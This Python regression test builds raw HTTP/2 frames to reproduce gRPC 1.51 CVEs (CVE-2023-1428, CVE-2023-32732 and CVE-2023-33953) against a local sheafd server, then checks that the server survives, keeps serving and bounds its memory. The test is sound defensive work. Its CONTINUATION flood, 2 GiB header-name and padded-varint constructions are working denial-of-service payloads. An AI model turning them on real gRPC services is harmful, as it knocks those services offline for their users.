#!/usr/bin/python3
"""The header patterns of gRPC 1.51's known CVEs against a real sheafd,
from a raw HTTP/2 client (Debian's python3-h2: hpack and hyperframe).

Debian 12's gRPC is 1.51.1, without the fixes for:
- CVE-2023-1428: `te` other than "trailers", a `:scheme` other than
  http/https, or a `grpclb_client_stats` header, followed by headers that
  take the block past the metadata limit (8 KiB), reached an assertion
  (abort) while gRPC described the oversized metadata.
- CVE-2023-32732: a `-bin` header whose base64 does not decode (a length
  that cannot be base64, a stray character) ended the whole connection,
  with every other call on it, not just that stream.
- CVE-2023-33953: the HPACK parser buffered a header string of any
  declared length (up to 4 GiB) before checking the metadata limit,
  re-copied it for every frame (quadratic CPU), read any number of
  padding bytes of a varint, and checked the limit per frame, so a
  HEADERS frame followed by endless CONTINUATION frames buffered without
  bound.

Each pattern goes over its own connection. After each one the test
checks that sheafd is still running, that a fresh client's Push is
answered OK within CALL_BOUND_S while the attacking connection is still
open, and that sheafd's resident memory stayed within RSS_BOUND of where
it was. What sheafd answered on the attacking connection is printed (and
asserted where sheafd's configuration decides it); docs/SECURITY.md,
"gRPC 1.51 and its known CVEs", records the results and the residual risk.

Prints 'N passed, N failed'; exits non-zero on any failure.
"""
import json
import os
import socket
import sys
import tempfile
import time
import urllib.request
import zlib

import h2.exceptions
import hpack
import hyperframe.frame as hf

import hostile_wire_test as wire  # noqa: E402  (connect, grpc_call, metric_batch, peak_rss, start/stop_sheafd)

SHEAFD = os.environ["SHEAFD"]
CALL_BOUND_S = 5            # a fresh client's Push must be answered within this
RSS_BOUND = 64 << 20        # sheafd's resident memory may grow by at most this per pattern...
GRPC_MEMORY = 64 << 20      # ...or, for the floods, RSS_BOUND + 4 x this (--grpc-memory-bytes; RSS
                            # grows by ~3.5x it before gRPC closes the connection; without it by 1 GiB)
FLOOD_BYTES = 32 << 20      # tiny header fields sent by the CONTINUATION flood
KEY_BYTES = 8 << 20         # bytes of the huge header name (its cost is quadratic: 32 MiB took 72 s)


def is_asan(path):
    """Whether sheafd is an AddressSanitizer build (the suite runs once more
    under ASan): its freed memory sits in quarantine (up to 256 MiB) and
    every allocation carries redzones, so RSS grows more. The flood measured
    there: 1,670 MiB without the quota, ~700 MiB with it (64 MiB)."""
    with open(path, "rb") as f:
        return b"__asan_init" in f.read()


ASAN = is_asan(SHEAFD)
PATTERN_BOUND = RSS_BOUND + (320 << 20 if ASAN else 0)
FLOOD_BOUND = (1 << 30) if ASAN else RSS_BOUND + 4 * GRPC_MEMORY
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PUSH = "/sheaf.v1.IngestService/Push"

results = []


def check(name, ok, detail=""):
    results.append(ok)
    print("%s: %s%s" % ("ok" if ok else "FAIL", name, (" -- " + detail) if detail else ""))


def hpack_int(value, prefix_bits, flags, padding=0):
    """An HPACK integer (RFC 7541 5.1); `padding` extra 0x80 bytes before the
    final one are the redundant encoding CVE-2023-33953 abused."""
    limit = (1 << prefix_bits) - 1
    if value < limit and padding == 0:
        return bytes([flags | value])
    out = bytearray([flags | limit])
    value -= limit
    while value >= 0x80:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    if padding:
        out.append((value & 0x7F) | 0x80)
        out += b"\x80" * (padding - 1)
        value = 0
    out.append(value)
    return bytes(out)


def hpack_string(s):
    return hpack_int(len(s), 7, 0x00) + s


def literal(name, value, flags=0x00):
    """A literal header field without indexing (flags 0x00) or with
    incremental indexing (0x40), its name given as a string."""
    return bytes([flags]) + hpack_string(name) + hpack_string(value)


def request_headers(path=PUSH, scheme=b"http", te=b"trailers"):
    return (literal(b":method", b"POST") + literal(b":scheme", scheme) + literal(b":path", path.encode())
            + literal(b":authority", b"127.0.0.1") + literal(b"content-type", b"application/grpc")
            + literal(b"te", te))


class RawConnection:
    """An HTTP/2 client connection writing hand-made frames, so header
    blocks can be anything; reads what the server answers."""

    def __init__(self, port, timeout=10, handshake=True):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        self.decoder = hpack.Decoder()
        self.buffer = b""
        self.closed = False
        self.settings = None
        self.send(PREFACE + hf.SettingsFrame(0).serialize())
        if handshake:
            # The metadata limit applies once the client has acknowledged the
            # server's SETTINGS: read and acknowledge them first.
            deadline = time.time() + timeout
            while self.settings is None and not self.closed and time.time() < deadline:
                self.events(0.2)

    def send(self, data):
        """False once the server has closed or stopped reading."""
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def header_block(self, stream, block, end_stream=True, end_headers=True, frame_bytes=16384):
        """Sends `block` as a HEADERS frame and as many CONTINUATION frames
        as it takes; the last one ends the headers unless told not to."""
        pieces = [block[i:i + frame_bytes] for i in range(0, len(block), frame_bytes)] or [b""]
        for i, piece in enumerate(pieces):
            frame = hf.HeadersFrame(stream) if i == 0 else hf.ContinuationFrame(stream)
            frame.data = piece
            if i == 0 and end_stream:
                frame.flags.add("END_STREAM")
            if i == len(pieces) - 1 and end_headers:
                frame.flags.add("END_HEADERS")
            if not self.send(frame.serialize()):
                return False
        return True

    def frame(self, frame, data, *flags):
        """Sends `frame` with `data` and the flags that are not None."""
        frame.data = data
        for f in flags:
            if f:
                frame.flags.add(f)
        return self.send(frame.serialize())

    def continuation(self, stream, piece, end_headers=False):
        return self.frame(hf.ContinuationFrame(stream), piece, "END_HEADERS" if end_headers else None)

    def data(self, stream, data, end_stream=True):
        return self.frame(hf.DataFrame(stream), data, "END_STREAM" if end_stream else None)

    def message(self, stream, payload, compressed=False, end_stream=True):
        """One gRPC length-prefixed message."""
        return self.data(stream, bytes([1 if compressed else 0]) + len(payload).to_bytes(4, "big") + payload,
                         end_stream)

    def events(self, wait_s, until_stream=None):
        """What the server sends within `wait_s` (or until `until_stream`
        has its grpc-status): a list like ['HEADERS 1 grpc-status=0',
        'RST_STREAM 1 code=2', 'GOAWAY code=2 ...', 'closed']."""
        out = []
        deadline = time.time() + wait_s
        while time.time() < deadline and not self.closed:
            self.sock.settimeout(max(0.05, deadline - time.time()))
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                break
            except OSError as e:
                out.append("reset (%s)" % e.__class__.__name__)
                self.closed = True
                break
            if not data:
                out.append("closed")
                self.closed = True
                break
            self.buffer += data
            while len(self.buffer) >= 9:
                frame, length = hf.Frame.parse_frame_header(memoryview(self.buffer[:9]))
                if len(self.buffer) < 9 + length:
                    break
                frame.parse_body(memoryview(self.buffer[9:9 + length]))
                self.buffer = self.buffer[9 + length:]
                out.extend(self._describe(frame))
            if until_stream is not None and any(e.startswith("HEADERS %d grpc-status" % until_stream) or
                                                e.startswith("RST_STREAM %d" % until_stream) for e in out):
                break
        return out

    def _describe(self, frame):
        if isinstance(frame, hf.SettingsFrame) and "ACK" not in frame.flags:
            self.settings = dict(frame.settings)
            ack = hf.SettingsFrame(0)
            ack.flags.add("ACK")
            self.send(ack.serialize())
        elif isinstance(frame, hf.PingFrame) and "ACK" not in frame.flags:
            pong = hf.PingFrame(0)
            pong.opaque_data = frame.opaque_data
            pong.flags.add("ACK")
            self.send(pong.serialize())
        elif isinstance(frame, hf.HeadersFrame):
            fields = dict((k.decode(), v.decode(errors="replace")) for k, v in self.decoder.decode(frame.data, raw=True))
            if "grpc-status" in fields:
                return ["HEADERS %d grpc-status=%s %s" % (frame.stream_id, fields["grpc-status"],
                                                          fields.get("grpc-message", ""))]
            return ["HEADERS %d" % frame.stream_id]
        elif isinstance(frame, hf.RstStreamFrame):
            return ["RST_STREAM %d code=%d" % (frame.stream_id, frame.error_code)]
        elif isinstance(frame, hf.GoAwayFrame):
            return ["GOAWAY code=%d %s" % (frame.error_code, frame.additional_data[:200].decode(errors="replace"))]
        return []

    def close(self):
        self.sock.close()


def rss(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    raise RuntimeError("no VmRSS")


class Pattern:
    """One probe: `attack(conn)` sends it over a fresh connection (after the
    SETTINGS handshake unless `handshake` is False) and returns what the
    server answered; `expect(seen)` says whether that answer is sheafd's
    (None: printed only, gRPC's behaviour and not sheafd's to decide)."""

    def __init__(self, name, attack, handshake=True, rss_bound=PATTERN_BOUND, expect=None):
        self.name = name
        self.attack = attack
        self.handshake = handshake
        self.rss_bound = rss_bound
        self.expect = expect


def answered(status, text=""):
    """An expectation: stream 1 ended with this grpc-status (and text)."""
    prefix = "HEADERS 1 grpc-status=%d" % status

    def expect(seen):
        return any(e.startswith(prefix) and text in e for e in seen)
    expect.description = "%s %s" % (prefix, text)
    return expect


class Probe:
    def __init__(self, proc, grpc_port, http_port):
        self.proc = proc
        self.port = grpc_port
        self.http_port = http_port
        self.pushes = 0

    def fresh_client_is_served(self):
        """A normal Push from a new connection, retried (as a real client
        reconnects) until CALL_BOUND_S: (ok, seconds, last answer)."""
        self.pushes += 1
        started = time.time()
        batch = wire.metric_batch("probe-%d" % self.pushes, 1, "probe_up", [int(time.time() * 1000)])
        answer = "no answer"
        while time.time() - started < CALL_BOUND_S:
            try:
                status, message = wire.grpc_call(self.port, PUSH, batch, compressed=False,
                                                 timeout=max(0.1, CALL_BOUND_S - (time.time() - started)))
                answer = "%s %r" % (status, message)
                if status == 0:
                    return True, time.time() - started, answer
            except (OSError, h2.exceptions.ProtocolError) as e:  # the server closed the connection
                answer = "%s" % e
            time.sleep(0.1)
        return False, time.time() - started, answer

    def stored(self, name):
        """Whether a series named `name` is stored (the HTTP series API)."""
        url = "http://127.0.0.1:%d/api/v1/series?match[]=%s" % (self.http_port, name)
        with urllib.request.urlopen(url, timeout=5) as r:
            return json.load(r)["data"] != []

    def run(self, p):
        """Runs the pattern; while its connection is still open, checks that
        sheafd is alive, serves a fresh client, and kept its memory."""
        before = rss(self.proc.pid)
        conn = RawConnection(self.port, handshake=p.handshake)
        started = time.time()
        seen = p.attack(conn)
        shown = seen if len(seen) <= 8 else seen[:6] + ["... %d more" % (len(seen) - 7), seen[-1]]
        print("%s: server answered %s (%.1f s)" % (p.name, shown, time.time() - started))
        if p.expect is not None:
            check("%s: answered %s" % (p.name, p.expect.description), p.expect(seen))
        alive = self.proc.poll() is None
        check("%s: sheafd still running" % p.name, alive, "" if alive else "exit code %s" % self.proc.returncode)
        if alive:
            grown = rss(self.proc.pid) - before
            check("%s: RSS grew by %d MiB (bound %d MiB)" % (p.name, grown >> 20, p.rss_bound >> 20),
                  grown < p.rss_bound)
            ok, took, answer = self.fresh_client_is_served()
            check("%s: a fresh client's Push is answered OK within %d s" % (p.name, CALL_BOUND_S), ok,
                  "%.2f s, %s" % (took, answer))
        conn.close()


def filler(total):
    """Ordinary headers adding up to `total` bytes of metadata."""
    out = b""
    i = 0
    while len(out) < total:
        out += literal(b"x-filler-%d" % i, b"f" * 1000)
        i += 1
    return out


def cve_2023_1428(name, headers):
    """A request with `headers` (one bad value), then headers past the 8 KiB
    limit, in one block ending the stream: refused on the limit."""
    def attack(conn):
        conn.header_block(1, headers + filler(12 << 10))
        return conn.events(3, until_stream=1)
    return Pattern(name, attack, expect=answered(8, "received initial metadata size exceeds limit"))


def cve_2023_32732(name, value):
    """A -bin header that is not base64 on stream 1, then a normal Push on
    stream 3 of the same connection (gRPC 1.51 drops the connection)."""
    def attack(conn):
        conn.header_block(1, request_headers() + literal(b"x-probe-bin", value))
        seen = conn.events(1, until_stream=1)
        batch = wire.metric_batch("same-connection", 1, "probe_up", [int(time.time() * 1000)])
        if conn.header_block(3, request_headers(), end_stream=False) and conn.message(3, batch):
            seen += ["stream 3:"] + conn.events(3, until_stream=3)
        else:
            seen += ["stream 3 not sent: the connection is closed"]
        return seen
    return Pattern(name, attack, expect=answered(14, "Failed parsing HTTP/2"))


def flood(conn, first, chunk, total):
    """HEADERS with `first`, then CONTINUATION frames of `chunk` (never
    ending the headers) until `total` bytes are sent or the server stops
    reading or closes."""
    conn.sock.settimeout(5)
    if not conn.header_block(1, first, end_headers=False):
        return 0
    sent = len(first)
    while sent < total and conn.continuation(1, chunk):
        sent += len(chunk)
    return sent


def cve_2023_33953_small_fields():
    """Endless CONTINUATION frames of tiny headers (`a: 1`), from a client
    that never acknowledges SETTINGS (so the 8 KiB limit is not in force):
    gRPC keeps them; the resource quota closes the connection."""
    def attack(conn):
        tiny = literal(b"a", b"1") * (16000 // 5)
        sent = flood(conn, request_headers(), tiny, FLOOD_BYTES)
        return ["%d MiB sent" % (sent >> 20)] + conn.events(2)

    def expect(seen):
        return any(e.startswith("GOAWAY code=11 Buffers full") for e in seen)
    expect.description = "GOAWAY ENHANCE_YOUR_CALM 'Buffers full' (the resource quota)"
    return Pattern("CVE-2023-33953 32 MiB of tiny header fields in CONTINUATION frames", attack, handshake=False,
                   rss_bound=FLOOD_BOUND, expect=expect)


def cve_2023_33953_huge_key():
    """A header name declared 2 GiB long, its bytes sent frame by frame: the
    string is buffered (and re-copied per frame) before any limit check."""
    def attack(conn):
        first = request_headers() + b"\x00" + hpack_int(1 << 31, 7, 0x00)
        sent = flood(conn, first, b"k" * 16384, KEY_BYTES)
        return ["%d MiB sent" % (sent >> 20)] + conn.events(1)
    return Pattern("CVE-2023-33953 8 MiB of a header name declared 2 GiB long", attack, handshake=False,
                   rss_bound=FLOOD_BOUND)


def cve_2023_33953_varint_padding():
    """An HPACK integer padded with 1 MiB of continuation bytes."""
    def attack(conn):
        block = request_headers() + b"\x00" + hpack_int(1, 7, 0x00, padding=1 << 20) + b"k" + hpack_string(b"v")
        conn.sock.settimeout(5)
        conn.header_block(1, block)
        return conn.events(3, until_stream=1)
    return Pattern("CVE-2023-33953 an HPACK integer padded with 1 MiB", attack, expect=answered(14))


def many_streams():
    """300 calls opened on one connection, none ended: past sheafd's 256
    concurrent streams, a protocol error to gRPC 1.51, which ends the
    connection and every call on it (UNAVAILABLE)."""
    def attack(conn):
        for i in range(300):
            conn.header_block(1 + 2 * i, request_headers(), end_stream=False)
        return conn.events(2)

    def expect(seen):
        ended = [e for e in seen if e.startswith("HEADERS") and "grpc-status=14" in e]
        return len(ended) == 256 and seen[-1] == "closed"
    expect.description = "256 calls UNAVAILABLE, the connection closed"
    return Pattern("300 streams on one connection", attack, expect=expect)


# Bad input on the wire (docs/RELIABILITY.md, gRPC ingestion): what the C++
# client cannot send.

def call(conn, headers, frames):
    """Stream 1 with `headers`, then DATA `frames` (the last ends the
    stream); returns what the server answered."""
    conn.header_block(1, headers, end_stream=False)
    for i, f in enumerate(frames):
        conn.data(1, f, end_stream=i == len(frames) - 1)
    return conn.events(5, until_stream=1)


def gzip(data):
    z = zlib.compressobj(6, zlib.DEFLATED, 16 + 15)
    return z.compress(data) + z.flush()


def framed(payload, compressed=False):
    return bytes([1 if compressed else 0]) + len(payload).to_bytes(4, "big") + payload


def batch(agent, name):
    return wire.metric_batch(agent, 1, name, [int(time.time() * 1000)])


def wire_truncated_gzip():
    def attack(conn):
        data = gzip(batch("truncated", "wire_truncated"))
        return call(conn, request_headers() + literal(b"grpc-encoding", b"gzip"),
                    [framed(data[:len(data) // 2], compressed=True)])
    return Pattern("wire: truncated gzip in a Push", attack,
                   expect=answered(3, "message 1 of the stream is truncated compressed data"))


def wire_unknown_encoding():
    """gRPC 1.51 hands sheafd a message of an encoding it does not know as
    uncompressed: the bytes are no MetricBatch."""
    def attack(conn):
        return call(conn, request_headers() + literal(b"grpc-encoding", b"snappy"),
                    [framed(gzip(batch("snappy", "wire_snappy")), compressed=True)])
    return Pattern("wire: grpc-encoding snappy", attack,
                   expect=answered(3, "is not a valid sheaf.v1.MetricBatch"))


def wire_content_type():
    def attack(conn):
        headers = request_headers().replace(literal(b"content-type", b"application/grpc"),
                                            literal(b"content-type", b"text/plain"))
        return call(conn, headers, [framed(batch("text", "wire_text"))])
    return Pattern("wire: content-type text/plain", attack, expect=answered(0))


def wire_half_closed(probe):
    """A good batch, then half of a second message, then END_STREAM."""
    def attack(conn):
        second = batch("half", "wire_half_second")
        seen = call(conn, request_headers(), [framed(batch("half", "wire_half")), framed(second)[:20]])
        seen.append("first batch stored: %s" % probe.stored("wire_half"))
        return seen

    def expect(seen):
        return answered(0)(seen) and "first batch stored: True" in seen
    expect.description = "OK (the half message never reaches sheafd), the first batch stored"
    return Pattern("wire: Push half-closed in the middle of a message", attack, expect=expect)


def wire_vanished(probe):
    """A good batch, then half of a second message, then the client is gone."""
    def attack(conn):
        conn.header_block(1, request_headers(), end_stream=False)
        conn.data(1, framed(batch("vanished", "wire_vanished")) + framed(batch("vanished", "x"))[:20],
                  end_stream=False)
        time.sleep(0.2)
        conn.close()
        deadline = time.time() + 5
        while time.time() < deadline and not probe.stored("wire_vanished"):
            time.sleep(0.1)
        return ["first batch stored: %s" % probe.stored("wire_vanished")]

    def expect(seen):
        return seen == ["first batch stored: True"]
    expect.description = "the first batch stored"
    return Pattern("wire: a client that vanishes mid-Push", attack, expect=expect)


def patterns(probe):
    return [
        cve_2023_1428("CVE-2023-1428 te: x, then 12 KiB of headers", request_headers(te=b"x")),
        cve_2023_1428("CVE-2023-1428 :scheme: x, then 12 KiB", request_headers(scheme=b"x")),
        cve_2023_1428("CVE-2023-1428 grpclb_client_stats, then 12 KiB",
                      request_headers() + literal(b"grpclb_client_stats", b"x")),
        cve_2023_32732("CVE-2023-32732 a -bin value of 5 characters", b"abcde"),
        cve_2023_32732("CVE-2023-32732 a -bin value with a stray character", b"ab!d"),
        cve_2023_33953_small_fields(),
        cve_2023_33953_huge_key(),
        cve_2023_33953_varint_padding(),
        many_streams(),
        wire_truncated_gzip(),
        wire_unknown_encoding(),
        wire_content_type(),
        wire_half_closed(probe),
        wire_vanished(probe),
    ]


def main():
    only = sys.argv[1:]
    with tempfile.TemporaryDirectory() as tmp:
        log_path = os.path.join(tmp, "sheafd.log")
        log = open(log_path, "w")
        proc, grpc_port, http_port = wire.start_sheafd(tmp, log, "--grpc-memory-bytes", str(GRPC_MEMORY))
        try:
            probe = Probe(proc, grpc_port, http_port)
            ok, took, answer = probe.fresh_client_is_served()
            check("a Push before the probes", ok, answer)
            for p in patterns(probe):
                if only and not any(o in p.name for o in only):
                    continue
                probe.run(p)
                if proc.poll() is not None:
                    break
        finally:
            wire.stop_sheafd(proc)
            log.close()
            if not all(results):
                sys.stdout.write(open(log_path).read()[-4000:])
    failed = results.count(False)
    print("%d passed, %d failed" % (len(results) - failed, failed))
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
